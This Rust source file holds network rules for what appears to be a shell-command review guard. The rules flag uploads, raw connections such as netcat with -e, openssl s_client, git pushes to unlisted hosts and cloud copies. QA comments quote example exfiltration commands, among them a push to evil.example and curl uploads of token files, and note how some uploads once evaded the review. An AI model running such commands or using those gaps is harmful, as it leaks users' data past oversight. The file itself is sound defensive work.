//! Shell rules for the network: uploads with curl/wget/httpie, raw
//! connections (nc, socat, telnet), copies and sessions to other hosts
//! (scp, rsync, sftp, ssh, ftp) and cloud storage uploads. Data may go to
//! loopback and allowlisted hosts; anything else is asked about, and paste
//! sites and anonymous file hosts are named as such.

use super::patterns;
use super::patterns::HostAllowlist;
use super::review::Findings;
use super::shell_words::has;
use super::shell_words::has_short;
use super::shell_words::positionals;

/// Applies the network rules to one command; `false` if the program is
/// not a network tool.
pub(crate) fn network_rules(
    program: &str,
    args: &[String],
    allow: &HostAllowlist,
    f: &mut Findings,
) -> bool {
    match program {
        "curl" => curl(args, allow, f),
        "wget" => wget(args, allow, f),
        "nc" | "ncat" | "netcat" | "telnet" => netcat(program, args, allow, f),
        "socat" => {
            let hosts: Vec<String> = args.iter().flat_map(|a| socat_hosts(a)).collect();
            if hosts.is_empty() || hosts.iter().any(|h| !allow.allows(h)) {
                f.ask("opens a raw network connection (socat)");
            }
        }
        "scp" | "sftp" | "rsync" => copy(program, args, allow, f),
        "ssh" | "mosh" => {
            if let Some(host) = positionals(args, "bcDEeFIiJLlmOopQRSWw").first() {
                let host = host.rsplit('@').next().unwrap_or(host);
                if !allow.allows(host) {
                    f.ask(format!("connects to {host} over ssh (runs commands there)"));
                }
            }
        }
        "ftp" | "tftp" | "lftp" => {
            let host = positionals(args, "p").first().map(|h| h.to_string());
            if host.as_deref().is_none_or(|h| !allow.allows(h)) {
                f.ask(format!("opens an FTP connection ({program})"));
            }
        }
        "http" | "https" | "xh" => httpie(args, allow, f),
        // a TLS pipe to anywhere, as nc is a plain one (QA: `cat f |
        // openssl s_client -connect HOST:PORT` uploaded unasked)
        "openssl" if args.first().is_some_and(|a| a == "s_client") => {
            let target = args
                .iter()
                .position(|a| a == "-connect")
                .and_then(|i| args.get(i + 1))
                .map(|t| t.rsplit_once(':').map_or(t.as_str(), |(h, _)| h))
                .map(|h| h.trim_matches(['[', ']']).to_ascii_lowercase());
            match target {
                Some(host) if allow.allows(&host) => {}
                Some(host) => f.ask(format!(
                    "opens a raw network connection to {host} (openssl s_client)"
                )),
                None => f.ask("opens a raw network connection (openssl s_client)"),
            }
        }
        "openssl" if args.first().is_some_and(|a| a == "s_server") => {
            f.ask("listens for network connections (openssl s_server)");
        }
        "aws" | "gsutil" | "rclone" | "azcopy" => cloud_copy(program, args, f),
        _ => return false,
    }
    true
}

/// Asks about an upload to `hosts` unless every host is allowed.
fn upload(what: &str, hosts: &[String], allow: &HostAllowlist, f: &mut Findings) {
    if hosts.is_empty() {
        f.ask(format!("{what} to a host the review cannot see"));
    }
    for host in hosts {
        if allow.allows(host) {
            continue;
        }
        if patterns::is_paste_host(host) {
            f.ask(format!(
                "{what} to {host}, a paste site or anonymous file host"
            ));
        } else {
            f.ask(format!(
                "{what} to {host}, which is not on the review allowlist"
            ));
        }
    }
}

/// curl's short options that take a value: in a cluster the value starts
/// right after the letter (`-sd@f.txt` is `-s -d @f.txt`), else it is
/// the next word.
const CURL_VALUE_LETTERS: &str = "AbcCdDeEFHKmoPQrtTuUwxXyYz";

/// What a short-option word of curl (`-sd@f.txt`, `-T-`, `-sXPOST`) says:
/// whether it sends data (`-d`, `-F`, `-T`) and the method `-X` gives
/// (its value in the word, or `next`). Read letter by letter, as curl
/// does: the letters `has_short` counted had to be the whole word, so an
/// attached value (`-d@tok.txt`, `-Fa=@f`, `-T-`) hid the upload (QA).
fn curl_short<'a>(word: &'a str, next: Option<&'a str>) -> (bool, Option<&'a str>) {
    let Some(cluster) = word.strip_prefix('-').filter(|w| !w.starts_with('-')) else {
        return (false, None);
    };
    for (at, c) in cluster.char_indices() {
        if !CURL_VALUE_LETTERS.contains(c) {
            continue;
        }
        let value = &cluster[at + c.len_utf8()..];
        let value = if value.is_empty() { next } else { Some(value) };
        return match c {
            'd' | 'F' | 'T' => (true, None),
            'X' => (false, value),
            _ => (false, None),
        };
    }
    (false, None)
}

fn curl(args: &[String], allow: &HostAllowlist, f: &mut Findings) {
    let mut sends = false;
    for (i, a) in args.iter().enumerate() {
        let a = a.as_str();
        let next = args.get(i + 1).map(String::as_str);
        let (short_sends, short_method) = curl_short(a, next);
        sends |= short_sends;
        if short_method
            .is_some_and(|m| matches!(m.to_ascii_uppercase().as_str(), "POST" | "PUT" | "PATCH"))
        {
            sends = true;
        }
        if a.starts_with("--data")
            || a.starts_with("--form")
            || matches!(a, "--upload-file" | "--json")
        {
            sends = true;
        }
        let method = if a == "--request" {
            next
        } else {
            a.strip_prefix("--request=")
        };
        if method
            .is_some_and(|m| matches!(m.to_ascii_uppercase().as_str(), "POST" | "PUT" | "PATCH"))
        {
            sends = true;
        }
    }
    if sends {
        let hosts: Vec<String> = args.iter().flat_map(|a| patterns::url_hosts(a)).collect();
        upload("sends data", &hosts, allow, f);
    }
    // options read from a file (`-K FILE`, `--config FILE`) may send any
    // file anywhere (`data-binary = "@notes.txt"`, QA), which the review
    // cannot see
    let config = args.iter().any(|a| {
        a == "--config"
            || a.starts_with("--config=")
            || a.strip_prefix('-')
                .filter(|w| !w.starts_with('-'))
                .is_some_and(|cluster| {
                    cluster
                        .chars()
                        .find(|c| CURL_VALUE_LETTERS.contains(*c))
                        .is_some_and(|c| c == 'K')
                })
    });
    if config {
        f.ask("reads curl's options from a file (-K/--config), which may send data anywhere");
    }
}

/// `git push URL …` to a host not on the allowlist: an upload of the
/// repository (QA: a push to a git daemon went unasked). A named remote
/// (`origin`) is the repository's own, and a local path no host.
pub(crate) fn git_push(args: &[String], allow: &HostAllowlist, f: &mut Findings) {
    let Some(at) = args.iter().position(|a| a == "push") else {
        return;
    };
    let rest = args.get(at + 1..).unwrap_or_default();
    // `--repo=URL` names the repository too; `-o X` and `--push-option
    // X` take values (QA, 2026-12-05: `git push -o ci.skip URL` took
    // `ci.skip` for the repository, and pushed unasked)
    let repo = rest
        .iter()
        .find_map(|a| a.strip_prefix("--repo="))
        .or_else(|| {
            rest.iter()
                .position(|a| a == "--repo")
                .and_then(|i| rest.get(i + 1))
                .map(String::as_str)
        });
    let mut skip_next = false;
    let positional = rest.iter().find(|a| {
        if std::mem::take(&mut skip_next) {
            return false;
        }
        if matches!(
            a.as_str(),
            "-o" | "--push-option"
                | "--repo"
                | "--receive-pack"
                | "--exec"
                | "--recurse-submodules"
        ) {
            skip_next = true;
            return false;
        }
        !a.starts_with('-')
    });
    for repo in repo.into_iter().chain(positional.map(String::as_str)) {
        push_to(repo, allow, f);
    }
}

/// `git push` to `repo`: asked about when it is an address on a host not
/// on the allowlist.
fn push_to(repo: &str, allow: &HostAllowlist, f: &mut Findings) {
    // a variable or a substitution: an address review cannot see (QA,
    // 2026-12-05: `git push "$U" master` went to an unlisted host)
    if repo.contains(['$', '`']) {
        f.ask("pushes to an address review cannot see (git push)");
        return;
    }
    if let Some(host) = remote_host(repo)
        && !allow.allows(&host)
    {
        f.ask(format!(
            "pushes to {host}, which is not on the review allowlist (git push)"
        ));
    }
}

/// A git remote pointed at a host not on the allowlist by `git remote
/// add NAME URL` or `git remote set-url NAME URL`: a later `git push
/// NAME` names no host review can see, so the remote is asked about as
/// it is set (QA, 2026-12-05: `git remote add x https://evil.example/…`,
/// then `git push x`, pushed unasked, in one command or two). The
/// settings that do the same (`remote.NAME.url`, `url.BASE.insteadOf`,
/// by `git config`, `git -c`, `--config-env` or `GIT_CONFIG_*`) are
/// found where git settings are read (`shell_git.rs`) and checked by
/// [`remote_address`].
pub(crate) fn git_remote(args: &[String], allow: &HostAllowlist, f: &mut Findings) {
    let Some(at) = args.iter().position(|a| a == "remote") else {
        return;
    };
    let rest = args.get(at + 1..).unwrap_or_default();
    // `-t BRANCH`, `-m MASTER` take values
    let words = positionals(rest, "tm");
    if let ["add" | "set-url", _name, urls @ ..] = words.as_slice() {
        for url in urls {
            // a variable or a substitution review cannot see
            let seen = (!url.contains(['$', '`'])).then_some(*url);
            remote_address(seen, allow, f);
        }
    }
}

/// Asks about a remote pointed at `address` unless its host is on the
/// allowlist (a local path has none); `None` is an address review cannot
/// see, asked about too.
pub(crate) fn remote_address(address: Option<&str>, allow: &HostAllowlist, f: &mut Findings) {
    let Some(address) = address else {
        f.ask("points a git remote at an address review cannot see (a later git push would send the repository there)");
        return;
    };
    if let Some(host) = remote_host(address)
        && !allow.allows(&host)
    {
        f.ask(format!(
            "points a git remote at {host}, which is not on the review allowlist (a later \
             git push would send the repository there)"
        ));
    }
}

fn wget(args: &[String], allow: &HostAllowlist, f: &mut Findings) {
    let sends = args.iter().any(|a| {
        a.starts_with("--post-")
            || a.starts_with("--body-")
            || a.strip_prefix("--method=").is_some_and(|m| {
                matches!(m.to_ascii_uppercase().as_str(), "POST" | "PUT" | "PATCH")
            })
    });
    if sends {
        let hosts: Vec<String> = args.iter().flat_map(|a| patterns::url_hosts(a)).collect();
        upload("sends data", &hosts, allow, f);
    }
}

fn netcat(program: &str, args: &[String], allow: &HostAllowlist, f: &mut Findings) {
    if has_short(args, "l") || has(args, "--listen") {
        f.ask(format!("listens for network connections ({program})"));
    }
    if has_short(args, "ec") || has(args, "--exec") || has(args, "--sh-exec") {
        f.ask(format!("runs a program over the network ({program} -e)"));
    }
    let pos = positionals(args, "psiwqxXecOIT");
    if let Some(host) = pos
        .iter()
        .find(|p| !p.bytes().all(|b| b.is_ascii_digit() || b == b'-'))
        && !allow.allows(host)
    {
        f.ask(format!(
            "opens a raw network connection to {host} ({program})"
        ));
    }
}

fn socat_hosts(address: &str) -> Vec<String> {
    let upper = address.to_ascii_uppercase();
    if ["TCP", "UDP", "OPENSSL", "SSL", "SCTP"]
        .iter()
        .any(|p| upper.starts_with(p))
    {
        address
            .split(':')
            .nth(1)
            .map(|h| vec![h.split(',').next().unwrap_or(h).to_ascii_lowercase()])
            .unwrap_or_default()
    } else {
        Vec::new()
    }
}

/// `[user@]host:path` or a `scheme://host` URL: the host.
fn remote_host(spec: &str) -> Option<String> {
    if let Some(h) = patterns::url_hosts(spec).into_iter().next() {
        return Some(h);
    }
    let (before, _) = spec.split_once(':')?;
    if before.is_empty() || before.contains('/') || spec.starts_with('-') {
        return None;
    }
    Some(
        before
            .rsplit('@')
            .next()
            .unwrap_or(before)
            .to_ascii_lowercase(),
    )
}

fn copy(program: &str, args: &[String], allow: &HostAllowlist, f: &mut Findings) {
    let pos = positionals(args, "PiocFlSJe");
    if program == "sftp" {
        if let Some(host) = pos
            .first()
            .map(|h| remote_host(h).unwrap_or_else(|| h.rsplit('@').next().unwrap_or(h).to_owned()))
            && !allow.allows(&host)
        {
            f.ask(format!("opens an sftp session to {host}"));
        }
        return;
    }
    if pos.len() < 2 {
        return;
    }
    if let Some(host) = pos.last().and_then(|d| remote_host(d))
        && !allow.allows(&host)
    {
        f.ask(format!(
            "copies files to {host}, which is not on the review allowlist ({program})"
        ));
    }
}

fn httpie(args: &[String], allow: &HostAllowlist, f: &mut Findings) {
    let pos = positionals(args, "aAv");
    let sends = pos.iter().any(|p| matches!(*p, "POST" | "PUT" | "PATCH"))
        || pos
            .iter()
            .skip(1)
            .any(|p| p.contains('=') || p.contains(":=") || p.starts_with('@'))
        || has(args, "--form")
        || has(args, "-f");
    if sends {
        let mut hosts: Vec<String> = args.iter().flat_map(|a| patterns::url_hosts(a)).collect();
        if hosts.is_empty()
            && let Some(url) = pos.iter().find(|p| p.contains('.') && !p.contains('='))
        {
            hosts.push(
                url.split(['/', ':'])
                    .next()
                    .unwrap_or(url)
                    .to_ascii_lowercase(),
            );
        }
        upload("sends data", &hosts, allow, f);
    }
}

fn cloud_copy(program: &str, args: &[String], f: &mut Findings) {
    let pos = positionals(args, "");
    let dest = pos.last().copied().unwrap_or("");
    let uploads = match program {
        "aws" => pos.first() == Some(&"s3") && pos.len() > 3 && dest.starts_with("s3://"),
        "gsutil" => pos.len() > 2 && dest.starts_with("gs://"),
        "rclone" => {
            pos.len() > 2
                && matches!(pos[0], "copy" | "sync" | "move" | "copyto" | "moveto")
                && remote_host(dest).is_some()
        }
        _ => matches!(pos.first(), Some(&"copy") | Some(&"sync")),
    };
    if uploads {
        f.ask(format!("uploads to cloud storage ({program} → {dest})"));
    }
}
